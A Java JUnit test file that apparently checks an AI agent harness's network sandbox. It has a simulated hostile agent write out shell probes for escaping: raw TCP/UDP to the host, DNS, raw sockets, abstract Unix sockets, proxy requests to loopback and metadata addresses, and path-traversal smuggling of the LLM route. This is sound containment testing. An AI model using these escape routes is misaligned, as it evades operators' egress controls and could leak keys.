package dev.pincer.cli.hostile;

import static dev.pincer.cli.hostile.Hostile.assertNoSecret;
import static dev.pincer.cli.hostile.Hostile.rc;
import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import dev.pincer.cli.Harness;
import dev.pincer.testkit.RecordedRequest;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.Inet4Address;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hostile agent tries every way off its network namespace: raw TCP/UDP to the host, DNS, raw
 * and packet sockets, the host's abstract Unix sockets, and the egress proxy asked for loopback,
 * private and metadata addresses, the web API, a host off the allowlist, and a smuggled LLM
 * upstream. Host-side listeners count what actually arrived.
 */
class NetworkHostileTest {

    @TempDir static Path home;
    @TempDir static Path xdg;
    static Harness h;
    static Probes family;
    static Probes kids;
    static ServerSocket loopback;
    static ServerSocket anyAddress;
    static DatagramSocket udp;
    static HttpServer site;
    static Process abstractListener;
    static String abstractName = "pincer-hostile-" + Long.toHexString(System.nanoTime());
    static boolean abstractControlReached;
    static final AtomicInteger tcpAccepted = new AtomicInteger();
    static final AtomicInteger udpReceived = new AtomicInteger();
    static final CountDownLatch udpControl = new CountDownLatch(1);
    static final String UDP_CONTROL = "UDP-CONTROL-FROM-THE-HOST";
    static String hostIp;
    static int modelRequestsBefore;

    @BeforeAll
    static void attack() throws Exception {
        loopback = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        anyAddress = new ServerSocket(0, 50);
        for (ServerSocket s : List.of(loopback, anyAddress)) {
            Thread.ofVirtual().start(() -> {
                while (!s.isClosed()) {
                    try (Socket c = s.accept()) {
                        tcpAccepted.incrementAndGet();
                        c.getOutputStream().write("HOST-TCP-REACHED\n".getBytes(StandardCharsets.UTF_8));
                    } catch (Exception e) {
                        return;
                    }
                }
            });
        }
        udp = new DatagramSocket(0, InetAddress.getByName("0.0.0.0"));
        Thread.ofVirtual().start(() -> {
            byte[] buf = new byte[2048];
            while (!udp.isClosed()) {
                try {
                    DatagramPacket packet = new DatagramPacket(buf, buf.length);
                    udp.receive(packet);
                    if (new String(packet.getData(), 0, packet.getLength(), StandardCharsets.UTF_8).equals(UDP_CONTROL)) {
                        udpControl.countDown();
                    } else {
                        udpReceived.incrementAndGet();
                    }
                } catch (Exception e) {
                    return;
                }
            }
        });
        hostIp = Collections.list(NetworkInterface.getNetworkInterfaces()).stream()
                .flatMap(i -> Collections.list(i.getInetAddresses()).stream())
                .filter(a -> a instanceof Inet4Address && !a.isLoopbackAddress()).map(InetAddress::getHostAddress)
                .findFirst().orElse("127.0.0.2");
        site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        site.createContext("/", ex -> {
            byte[] b = "ALLOWED-SITE-OK".getBytes(StandardCharsets.UTF_8);
            ex.sendResponseHeaders(200, b.length);
            ex.getResponseBody().write(b);
            ex.close();
        });
        site.start();
        startAbstractListener();

        h = Hostile.start(home, xdg, Map.of());
        int sitePort = site.getAddress().getPort();
        var r = h.call("POST", "/api/groups", Hostile.json(Map.of("chat", "web:kids", "name", "kids", "folder", "kids",
                "trigger", "@Andy", "requiresTrigger", true,
                "config", Map.of("egress", Map.of("policy", "allowlist", "allow", List.of("127.0.0.1:" + sitePort))))));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(201);

        int p = loopback.getLocalPort();
        int any = anyAddress.getLocalPort();
        int web = h.webPort();
        int u = udp.getLocalPort();
        // code: the proxy's answer to an absolute-form request; connect: its answer to a CONNECT (-p)
        String curl = "curl -sS --max-time 15 -w '\\ncode=%{http_code} connect=%{http_connect}\\n' --noproxy '' -x http://127.0.0.1:3128 ";
        String direct = "curl -sS --max-time 15 -w '\\ncode=%{http_code}\\n' --noproxy '*' --path-as-is ";
        modelRequestsBefore = h.model.requests().size();
        family = new Probes()
                .bash("tcpLoopback", "(exec 3<>/dev/tcp/127.0.0.1/" + p + " && echo CONNECTED && head -1 <&3) 2>&1; echo rc=$?")
                .bash("tcpWeb", "(exec 3<>/dev/tcp/127.0.0.1/" + web + " && echo CONNECTED) 2>&1; echo rc=$?")
                .bash("tcpHostIp", "(exec 3<>/dev/tcp/" + hostIp + "/" + any + " && echo CONNECTED && head -1 <&3) 2>&1; echo rc=$?")
                .bash("udp", "for i in 1 2 3; do echo UDP-PROBE > /dev/udp/127.0.0.1/" + u + "; echo UDP-PROBE > /dev/udp/" + hostIp
                        + "/" + u + "; done 2>&1; perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>\"" + hostIp + ":" + u
                        + "\",Proto=>\"udp\") or die \"udp: $!\\n\"; print $s \"UDP-PERL\" or die \"send: $!\\n\"' 2>&1; echo done")
                .bash("dns", "getent hosts example.com 2>&1; echo rc=$?")
                .bash("dnsUdp", "perl -MSocket -e 'socket(S,AF_INET,SOCK_DGRAM,0) or die; send(S,\"x\",0,pack_sockaddr_in(53,inet_aton(\"8.8.8.8\"))) "
                        + "or die \"send: $!\\n\"; print \"SENT\\n\"' 2>&1; echo rc=$?")
                .bash("raw", "perl -e 'socket(S, 2, 3, 1) or die \"raw: $!\\n\"; print \"RAW-OK\\n\"' 2>&1; echo rc=$?")
                .bash("packet", "perl -e 'socket(S, 17, 3, 768) or die \"packet: $!\\n\"; print \"PACKET-OK\\n\"' 2>&1; echo rc=$?")
                .bash("abstract", "socat -T3 - ABSTRACT-CONNECT:" + abstractName + " </dev/null 2>&1; echo rc=$?; "
                        + "perl -MSocket -e 'socket(S,AF_UNIX,SOCK_STREAM,0) or die; connect(S, pack_sockaddr_un(\"\\0" + abstractName
                        + "\")) or die \"connect: $!\\n\"; print \"ABSTRACT-CONNECTED\\n\"' 2>&1; echo rc2=$?")
                .bash("interfaces", "cat /proc/net/dev")
                .bash("proxyLoopback", curl + "http://127.0.0.1:" + p + "/ 2>&1; " + curl + "http://localhost:" + p + "/ 2>&1; "
                        + curl + "http://[::1]:" + p + "/ 2>&1; echo end")
                .bash("proxyPrivate", curl + "http://10.0.0.1/ 2>&1; " + curl + "http://" + hostIp + ":" + any + "/ 2>&1; echo end")
                .bash("proxyMetadata", curl + "http://169.254.169.254/latest/meta-data/ 2>&1; "
                        + curl + "-p http://169.254.169.254:80/ 2>&1; echo end")
                .bash("proxyWeb", curl + "http://127.0.0.1:" + web + "/api/status 2>&1; " + curl + "-p http://127.0.0.1:" + web
                        + "/api/status 2>&1; curl -sS --max-time 15 http://127.0.0.1:" + web + "/api/status 2>&1; echo end")
                .bash("llmDoubleSlash", direct + "http://127.0.0.1:3128/llm//evil.example/v1/messages 2>&1; echo end")
                .bash("llmDotDot", direct + "http://127.0.0.1:3128/llm/../api/status 2>&1; "
                        + direct + "http://127.0.0.1:3128/llm/../../evil 2>&1; echo end")
                .bash("llmEncoded", direct + "http://127.0.0.1:3128/llm/%2e%2e/%2e%2e/evil 2>&1; "
                        + direct + "http://127.0.0.1:3128/llm/%2F%2Fevil.example/v1/messages 2>&1; echo end")
                .bash("proxyErrorsAndHeaders", "curl -sS -i --max-time 15 --noproxy '*' http://127.0.0.1:3128/nope 2>&1; "
                        + "curl -sS -i --max-time 15 --noproxy '*' -X POST http://127.0.0.1:3128/llm/evil 2>&1; "
                        + "printf 'GARBAGE\\r\\n\\r\\n' | socat -T3 - TCP:127.0.0.1:3128 2>&1; echo end");
        family.run(h, "family");
        kids = new Probes()
                .bash("allowed", curl + "http://127.0.0.1:" + sitePort + "/ 2>&1; echo end")
                .bash("disallowedHost", curl + "http://example.com/ 2>&1; " + curl + "https://example.com/ 2>&1; echo end")
                .bash("disallowedPort", curl + "http://127.0.0.1:" + p + "/ 2>&1; " + curl + "http://127.0.0.1:" + web
                        + "/api/status 2>&1; echo end");
        kids.run(h, "kids");
    }

    private static void startAbstractListener() throws Exception {
        if (new ProcessBuilder("sh", "-c", "command -v socat").start().waitFor() != 0) {
            return;
        }
        abstractListener = new ProcessBuilder("socat", "ABSTRACT-LISTEN:" + abstractName + ",fork", "SYSTEM:echo ABSTRACT-REACHED")
                .redirectErrorStream(true).start();
        for (int i = 0; i < 50 && !abstractControlReached; i++) {
            Thread.sleep(100);
            Process c = new ProcessBuilder("socat", "-T2", "-", "ABSTRACT-CONNECT:" + abstractName).redirectErrorStream(true).start();
            c.getOutputStream().close();
            c.waitFor(5, TimeUnit.SECONDS);
            abstractControlReached = new String(c.getInputStream().readAllBytes(), StandardCharsets.UTF_8).contains("ABSTRACT-REACHED");
        }
    }

    @AfterAll
    static void close() throws Exception {
        if (h != null) {
            h.close();
        }
        if (abstractListener != null) {
            abstractListener.destroyForcibly();
        }
        for (AutoCloseable c : new AutoCloseable[] {loopback, anyAddress, udp}) {
            if (c != null) {
                c.close();
            }
        }
        if (site != null) {
            site.stop(0);
        }
    }

    @Test
    void tcpToAHostLoopbackPortFails() throws Exception {
        assertThat(family.out("tcpLoopback")).doesNotContain("CONNECTED").doesNotContain("HOST-TCP-REACHED");
        assertThat(rc(family.out("tcpLoopback"))).isNotZero();
        assertThat(tcpAccepted.get()).as("connections the host listeners accepted").isZero();
    }

    @Test
    void tcpToTheWebApiPortFails() {
        assertThat(family.out("tcpWeb")).doesNotContain("CONNECTED");
        assertThat(rc(family.out("tcpWeb"))).isNotZero();
    }

    @Test
    void tcpToTheHostsOwnAddressFails() {
        assertThat(family.out("tcpHostIp")).doesNotContain("CONNECTED").doesNotContain("HOST-TCP-REACHED");
        assertThat(rc(family.out("tcpHostIp"))).isNotZero();
        assertThat(tcpAccepted.get()).isZero();
    }

    /**
     * The probes ran before the turn ended; a datagram the host sends itself afterwards arrives
     * behind anything they could have delivered, so once it is in, the count is final.
     */
    @Test
    void udpNeverReachesTheHost() throws Exception {
        try (DatagramSocket sender = new DatagramSocket()) {
            byte[] control = UDP_CONTROL.getBytes(StandardCharsets.UTF_8);
            sender.send(new DatagramPacket(control, control.length, InetAddress.getLoopbackAddress(), udp.getLocalPort()));
        }
        assertThat(udpControl.await(10, TimeUnit.SECONDS)).as("control: the host's own datagram arrived").isTrue();
        assertThat(udpReceived.get()).as("datagrams the host received; probe said: " + family.out("udp")).isZero();
        assertThat(family.out("udp")).contains("udp: ").contains("done");
    }

    @Test
    void dnsDoesNotResolve() {
        assertThat(rc(family.out("dns"))).as(family.out("dns")).isNotZero();
        assertThat(family.out("dns")).doesNotContain("example.com\n").doesNotContainPattern("\\d+\\.\\d+\\.\\d+\\.\\d+");
        assertThat(family.out("dnsUdp")).doesNotContain("SENT");
    }

    @Test
    void rawAndPacketSocketsAreRefused() {
        assertThat(family.out("raw")).doesNotContain("RAW-OK").contains("raw:");
        assertThat(family.out("packet")).doesNotContain("PACKET-OK").contains("packet:");
    }

    @Test
    void theHostsAbstractUnixSocketsAreUnreachable() {
        Assumptions.assumeTrue(abstractListener != null, "socat is not installed on the host: no abstract listener to attack");
        assertThat(abstractControlReached).as("control: the host itself reaches its abstract listener").isTrue();
        assertThat(family.out("abstract")).doesNotContain("ABSTRACT-REACHED").doesNotContain("ABSTRACT-CONNECTED")
                .doesNotContain("rc2=0");
    }

    @Test
    void theOnlyInterfaceIsLoopback() {
        List<String> names = new ArrayList<>();
        family.out("interfaces").lines().filter(l -> l.contains(":") && !l.contains("|"))
                .forEach(l -> names.add(l.substring(0, l.indexOf(':')).strip()));
        assertThat(names).containsExactly("lo");
    }

    @Test
    void theProxyRefusesLoopback() {
        String out = family.out("proxyLoopback");
        assertThat(out).doesNotContain("HOST-TCP-REACHED").doesNotContain("code=200");
        assertThat(out.split("code=403", -1)).as("three refusals (127.0.0.1, localhost, [::1]): " + out).hasSize(4);
        assertThat(tcpAccepted.get()).isZero();
    }

    @Test
    void theProxyRefusesPrivateAddresses() {
        String out = family.out("proxyPrivate");
        assertThat(out).doesNotContain("HOST-TCP-REACHED").doesNotContain("code=200").contains("non-public address");
    }

    @Test
    void theProxyRefusesTheMetadataAddress() {
        String out = family.out("proxyMetadata");
        assertThat(out).doesNotContain("code=200").contains("non-public address").contains("code=403 ")
                .as("the CONNECT form is refused too").contains("connect=403");
        assertThat(h.pincer.audit().recent(500)).filteredOn(e -> e.kind().equals("egress") && e.folder().equals("family"))
                .filteredOn(e -> e.detail().contains("169.254.169.254") || e.detail().contains("10.0.0.1"))
                .hasSizeGreaterThanOrEqualTo(3)
                .allSatisfy(e -> assertThat(e.verdict()).isEqualTo("denied"));
    }

    @Test
    void theProxyRefusesTheWebApi() throws Exception {
        String out = family.out("proxyWeb");
        assertThat(out).doesNotContain("\"groups\"").doesNotContain("code=200").doesNotContain("code=401")
                .as("absolute form and CONNECT refused by the proxy").contains("code=403 ").contains("connect=403")
                .as("the direct connection fails").contains("Failed to connect");
        assertNoSecret(h, "proxyWeb", out);
    }

    @Test
    void theLlmRouteCannotBeSteeredByADoubleSlash() throws Exception {
        assertSmuggleRefused("llmDoubleSlash");
    }

    @Test
    void theLlmRouteCannotBeSteeredByDotDot() throws Exception {
        assertSmuggleRefused("llmDotDot");
    }

    @Test
    void theLlmRouteCannotBeSteeredByEncodedDots() throws Exception {
        assertSmuggleRefused("llmEncoded");
    }

    private static void assertSmuggleRefused(String name) throws Exception {
        String out = family.out(name);
        assertNoSecret(h, name, out);
        assertThat(out).doesNotContain("code=200").doesNotContain("code=000").containsPattern("code=40[03]")
                .doesNotContain("code=404");
        // Only the configured upstream is ever reached, and only with plain paths (the probe
        // "POST /llm/evil" of proxyErrorsAndHeaders is refused: it is no inference endpoint).
        List<String> paths = h.model.requests().stream().map(RecordedRequest::path).toList();
        assertThat(paths).as("paths the upstream saw").allSatisfy(p ->
                assertThat(p).doesNotContain("evil.example").doesNotContain("..").doesNotContain("api/status")
                        .doesNotContain("//").doesNotContain("%"));
    }

    @Test
    void proxyErrorResponsesCarryNoKey() throws Exception {
        String out = family.out("proxyErrorsAndHeaders");
        assertNoSecret(h, "proxy errors", out);
        assertThat(out).doesNotContainIgnoringCase("x-api-key").doesNotContainIgnoringCase("authorization")
                .doesNotContain(String.valueOf(h.model.port()));
        assertThat(out).as("control: each probe got an answer").contains("HTTP/1.1 403").contains("permission_error")
                .contains("HTTP/1.1 400");
    }

    @Test
    void anAllowlistGroupReachesOnlyItsListedHost() {
        assertThat(kids.out("allowed")).as("control: the listed host is reachable").contains("ALLOWED-SITE-OK");
        assertThat(kids.out("disallowedHost")).doesNotContain("code=200").contains("not on this group's egress allowlist")
                .contains("connect=403");
        assertThat(kids.out("disallowedPort")).doesNotContain("HOST-TCP-REACHED").doesNotContain("\"groups\"")
                .contains("not on this group's egress allowlist");
        assertThat(h.pincer.audit().recent(500)).filteredOn(e -> e.kind().equals("egress") && e.folder().equals("kids"))
                .anySatisfy(e -> assertThat(e.detail()).contains("example.com"));
    }

    @Test
    void noNetworkProbeResultCarriesASecret() throws Exception {
        assertNoSecret(h, "every family result", family.all());
        assertNoSecret(h, "every kids result", kids.all());
        assertThat(h.model.requests()).allSatisfy(r -> assertThat(r.header("x-api-key")).isEqualTo(Harness.API_KEY));
    }
}
